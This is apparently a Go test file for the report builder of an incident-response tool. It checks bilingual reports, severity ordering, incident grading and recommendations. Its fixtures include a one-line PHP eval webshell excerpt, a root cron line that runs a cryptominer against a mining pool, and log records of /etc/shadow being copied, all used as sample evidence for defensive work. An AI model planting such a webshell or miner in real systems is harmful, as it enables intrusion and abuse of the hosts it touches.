package report

import (
	"io/fs"
	"os"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/yingji/yingji/internal/finding"
	"github.com/yingji/yingji/internal/oplog"
)

func testLibrary(t *testing.T) *Library {
	t.Helper()
	lib, err := LoadLibrary([]fs.FS{os.DirFS("../../rules/advice")})
	if err != nil {
		t.Fatal(err)
	}
	return lib
}

func TestBuild(t *testing.T) {
	t0 := time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC)
	t1 := t0.Add(40 * time.Minute)
	at := func(t time.Time) *time.Time { return &t }
	fds := []finding.Finding{
		{Rule: "hardening.ssh_password_auth", Severity: finding.Low, Title: "SSH password auth", TitleZh: "SSH 允许口令登录", Category: "SHVULN", Attack: []string{"T1110"}},
		{Rule: "persistence.cron_user_exec", Severity: finding.High, Title: "Cron runs code", TitleZh: "计划任务执行代码", Category: "MPMINER", Attack: []string{"T1053.003"},
			Evidence: []finding.Evidence{{Path: "/var/spool/cron/crontabs/root", Line: 1, Excerpt: "* * * * * /tmp/.x/kworkerds -o stratum+tcp://pool.minexmr.invalid:4444"}}},
		{Rule: "logins.success_after_failures", Severity: finding.High, Time: at(t1), Title: "Login after brute force", TitleZh: "暴力破解后登录成功", Category: "NAPWD", Attack: []string{"T1110.001", "T1078"},
			Evidence: []finding.Evidence{{Path: "/var/log/auth.log", Line: 900, Fields: map[string]string{"src_ip": "203.0.113.7", "first": t0.Format(time.RFC3339), "last": t1.Format(time.RFC3339)}}}},
		{Rule: "malware.webshell", Severity: finding.Critical, Title: "Webshell", TitleZh: "WebShell", Category: "NABACKIMPL", Attack: []string{"T1505.003"},
			Evidence: []finding.Evidence{{Path: "/var/www/html/up/x.php", SHA256: strings.Repeat("ab", 32), Excerpt: "<?php eval($_POST[1]);\x00</script>"}}},
		{Rule: "accounts.uid0_extra", Severity: finding.Critical, Title: "UID 0", TitleZh: "UID 0 账户", Category: "NABACKIMPL", Attack: []string{"T1136.001"},
			Review: &finding.Review{FalsePositive: true, Reason: "toor is the customer's documented break-glass account"}},
	}
	recs := []oplog.Record{
		{Seq: 1, Time: t1.Add(48 * time.Hour), Operator: "alice", Action: "collect.start", Result: "ok"},
		{Seq: 2, Time: t1.Add(48*time.Hour + time.Second), Operator: "alice", Action: "file.copy", Target: "/etc/passwd", Result: "ok"},
		{Seq: 3, Time: t1.Add(48*time.Hour + 2*time.Second), Operator: "alice", Action: "file.copy", Target: "/etc/shadow", Result: "ok"},
		{Seq: 4, Time: t1.Add(48*time.Hour + 3*time.Second), Operator: "alice", Action: "respond.quarantine", Target: "/var/www/html/up/x.php", Result: "ok", Detail: map[string]any{"undo": "yingji respond undo 1"}},
	}
	mtime := t0.Add(50 * time.Minute)
	in := Input{Lang: LangZh, Customer: "某某科技有限公司", Findings: fds, Oplog: recs, Library: testLibrary(t), Now: t1.Add(72 * time.Hour),
		Systems:    []System{{Name: "web01", Source: "image /mnt/web01"}},
		Assessment: Assessment{Importance: 2, Loss: 3},
		FileTime: func(p string) (time.Time, bool) {
			return mtime, p == "/var/www/html/up/x.php"
		}}
	r, err := Build(in)
	if err != nil {
		t.Fatal(err)
	}
	if r.Title != "某某科技有限公司 应急响应服务处理报告及安全优化建议" {
		t.Errorf("title %q", r.Title)
	}
	// Numbering: standing findings worst first (critical, then the two
	// highs in time order: the timed one first), then the dismissed one.
	var order []string
	for _, f := range r.Findings {
		order = append(order, f.Rule)
	}
	want := "malware.webshell logins.success_after_failures persistence.cron_user_exec hardening.ssh_password_auth accounts.uid0_extra"
	if strings.Join(order, " ") != want {
		t.Errorf("order\n got %s\nwant %s", strings.Join(order, " "), want)
	}
	if last := r.Findings[4]; !last.FalsePositive || last.Number != 5 || !strings.Contains(last.Reason, "break-glass") {
		t.Errorf("dismissed finding: %+v", last)
	}
	if r.SeverityCounts != [5]int{1, 2, 0, 1, 0} {
		t.Errorf("severity counts %v (the dismissed critical must not count)", r.SeverityCounts)
	}
	if r.Findings[0].Attack[0].Name != "WebShell" || r.Findings[0].Evidence[0].Excerpt != `<?php eval($_POST[1]);%00</script>` {
		t.Errorf("finding 1: %+v", r.Findings[0])
	}
	// Categories: only medium and above, the dismissed one left out.
	var cats []string
	for _, c := range r.Categories {
		cats = append(cats, c.Code+":"+c.Class)
	}
	if strings.Join(cats, " ") != "NABACKIMPL:网络攻击事件 NAPWD:网络攻击事件 MPMINER:恶意程序事件" {
		t.Errorf("categories %v", cats)
	}
	// The chain in kill-chain order.
	var chain []string
	for _, s := range r.Chain {
		chain = append(chain, s.TacticID)
	}
	if strings.Join(chain, " ") != "TA0001 TA0003 TA0006" {
		t.Errorf("chain %v", chain)
	}
	// Grade: 重要 object with 较大 loss is 一般 (IV).
	if r.Grade.Level != 4 || !strings.Contains(r.Grade.Name, "一般事件") || len(r.Grade.Criteria) != 4 {
		t.Errorf("grade %+v", r.Grade)
	}
	// Timeline: the brute force's first and last times, the webshell's
	// file time, in order; the window spans them.
	if len(r.AttackerTimeline) < 3 || !r.AttackerTimeline[0].Time.Equal(t0) || !r.Window.Start.Equal(t0) || !r.Window.End.Equal(mtime) {
		t.Errorf("attacker timeline %+v window %+v", r.AttackerTimeline, r.Window)
	}
	// Responders: runs condensed, the actor and the window from the record.
	if len(r.ResponderTimeline) != 3 || !strings.Contains(r.ResponderTimeline[1].Summary, "（2 次）") || r.ResponderTimeline[0].Actor != "alice" {
		t.Errorf("responder timeline %+v", r.ResponderTimeline)
	}
	if len(r.Responders) != 1 || r.Responders[0] != "alice" || !r.WorkWindow.Start.Equal(recs[0].Time) {
		t.Errorf("responders %v window %+v", r.Responders, r.WorkWindow)
	}
	if len(r.Actions) != 1 || r.Actions[0].Result != "成功" || r.Actions[0].Undo == "" {
		t.Errorf("actions %+v", r.Actions)
	}
	// Indicators from standing findings only.
	var ip bool
	for _, i := range r.Indicators {
		ip = ip || i.Value == "203.0.113.7" && strings.Contains(i.Context, "文档保留地址")
	}
	if !ip {
		t.Errorf("indicators %+v", r.Indicators)
	}
	if len(r.Hashes) != 1 || r.Hashes[0].SHA256 != strings.Repeat("ab", 32) {
		t.Errorf("hashes %+v", r.Hashes)
	}
	// Recommendations: the ones the findings call for, urgent first, with
	// the findings they answer; the baseline ones last.
	rec := map[string]Recommendation{}
	for i, x := range r.Recommendations {
		rec[x.ID] = x
		if i > 0 && r.Recommendations[i-1].Priority > x.Priority {
			t.Errorf("recommendations out of priority order at %s", x.ID)
		}
	}
	for id, because := range map[string]string{"remove-webshells": "1", "reset-credentials": "2", "stop-miner": "3", "restrict-ssh": "2 4", "baseline-monitoring": ""} {
		x, ok := rec[id]
		if !ok {
			t.Errorf("recommendation %s missing", id)
			continue
		}
		if got := joinInts(x.Because); got != because {
			t.Errorf("recommendation %s because %q, want %q", id, got, because)
		}
	}
	if _, ok := rec["remove-backdoor-accounts"]; ok {
		t.Error("recommendation for a dismissed finding")
	}
	if len(r.Impact) < 2 || !strings.Contains(strings.Join(r.Impact, ""), "WebShell") {
		t.Errorf("impact %v", r.Impact)
	}
	if !strings.Contains(r.Conclusion, "web01") || !strings.Contains(r.Conclusion, "严重问题 1 项") {
		t.Errorf("conclusion %q", r.Conclusion)
	}

	// English.
	in.Lang = LangEn
	r, err = Build(in)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(r.Title, "Incident Response Service Report and Security Recommendations") || r.Findings[0].Title != "Webshell" ||
		!strings.HasPrefix(r.Grade.Name, "General event") || r.Chain[0].Tactic != "Initial Access" || !strings.Contains(r.Conclusion, "1 critical") {
		t.Errorf("English report: %q %q %q %q", r.Title, r.Grade.Name, r.Chain[0].Tactic, r.Conclusion)
	}
}

func joinInts(ns []int) string {
	var s []string
	for _, n := range ns {
		s = append(s, strconv.Itoa(n))
	}
	return strings.Join(s, " ")
}

func TestGradeLevels(t *testing.T) {
	// The table of GB/T 20986-2023, row by row.
	for _, c := range []struct {
		imp, loss, social string
		want              int
	}{
		{"特别重要", "特别严重", "", 1},
		{"特别重要", "严重", "", 2}, {"重要", "特别严重", "", 2},
		{"特别重要", "较大", "", 3}, {"重要", "严重", "", 3}, {"一般", "特别严重", "", 3},
		{"特别重要", "较小", "", 4}, {"重要", "较大", "", 4}, {"重要", "较小", "", 4}, {"一般", "严重", "", 4}, {"一般", "较小", "", 4},
		{"一般", "较小", "特别重大", 1}, {"特别重要", "特别严重", "一般", 1}, {"", "", "重大", 2},
		{"important", "considerable", "", 4}, {"especially-important", "serious", "", 2},
		{"", "", "", 0}, {"重要", "", "", 0},
	} {
		a, err := ParseAssessment(c.imp, c.loss, c.social)
		if err != nil {
			t.Fatal(err)
		}
		if g := a.gradeLevel(); g != c.want {
			t.Errorf("%s/%s/%s: level %d, want %d", c.imp, c.loss, c.social, g, c.want)
		}
	}
	if _, err := ParseAssessment("很重要", "", ""); err == nil || !strings.Contains(err.Error(), "特别重要") {
		t.Errorf("bad importance accepted or unhelpful error: %v", err)
	}
}

func TestLibrary(t *testing.T) {
	lib := testLibrary(t)
	if len(lib.Entries) < 20 {
		t.Fatalf("library has %d entries", len(lib.Entries))
	}
	// A service's file rewords a built-in entry by its id and adds one.
	own := fstest.MapFS{"ours.yml": {Data: []byte(`
- id: baseline-monitoring
  kind: recommendation
  priority: 2
  title: {zh: 接入我司安全运营中心, en: Join our security operations centre}
  text: {zh: 由我司 7×24 小时监测。, en: We monitor around the clock.}
- id: ours-extra
  kind: recommendation
  priority: 1
  match: {rules: ["malware.*"]}
  title: {zh: 甲, en: A}
  text: {zh: 乙, en: B}
`)}}
	lib2, err := LoadLibrary([]fs.FS{os.DirFS("../../rules/advice"), own})
	if err != nil {
		t.Fatal(err)
	}
	if len(lib2.Entries) != len(lib.Entries)+1 {
		t.Errorf("entries %d, want %d", len(lib2.Entries), len(lib.Entries)+1)
	}
	for _, e := range lib2.Entries {
		if e.ID == "baseline-monitoring" && (e.Priority != 2 || e.Title.En != "Join our security operations centre") {
			t.Errorf("override not applied: %+v", e)
		}
	}
	// Bad entries are errors naming the file; the good ones stay.
	bad := fstest.MapFS{"bad.yml": {Data: []byte(`
- id: no-english
  kind: recommendation
  priority: 1
  title: {zh: 甲}
  text: {zh: 乙}
- id: fine
  kind: impact
  title: {zh: 甲, en: A}
  text: {zh: 乙, en: B}
`)}}
	lib3, err := LoadLibrary([]fs.FS{bad})
	if err == nil || !strings.Contains(err.Error(), "bad.yml") || !strings.Contains(err.Error(), "no-english") || len(lib3.Entries) != 1 {
		t.Errorf("err %v, entries %d", err, len(lib3.Entries))
	}
}

// TestBuildManyFindings: a host with thousands of findings (a server
// full of malware samples) gives a report of bounded size that still
// counts everything.
func TestBuildManyFindings(t *testing.T) {
	var fds []finding.Finding
	for i := range 3000 {
		fds = append(fds, finding.Finding{Rule: "malware.yara", Severity: finding.High, Title: "YARA", TitleZh: "YARA",
			Category: "MPOT", Attack: []string{"T1505.003"}, Evidence: []finding.Evidence{{Path: "/var/tmp/s/" + strconv.Itoa(i), SHA256: strings.Repeat("a", 64)}}})
	}
	r, err := Build(Input{Lang: LangZh, Customer: "c", Findings: fds, Library: testLibrary(t)})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) != MaxFindings || r.OmittedFindings != 3000-MaxFindings || r.SeverityCounts[1] != 3000 {
		t.Errorf("findings %d, omitted %d, high %d", len(r.Findings), r.OmittedFindings, r.SeverityCounts[1])
	}
	for _, s := range r.Chain {
		if len(s.Findings) > maxRefs {
			t.Errorf("chain step %s cites %d findings", s.TacticID, len(s.Findings))
		}
	}
	var html strings.Builder
	if err := DefaultTemplates().HTML(&html, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(html.String(), "另有 2500 项") {
		t.Error("the report does not say how many findings it leaves out")
	}
}
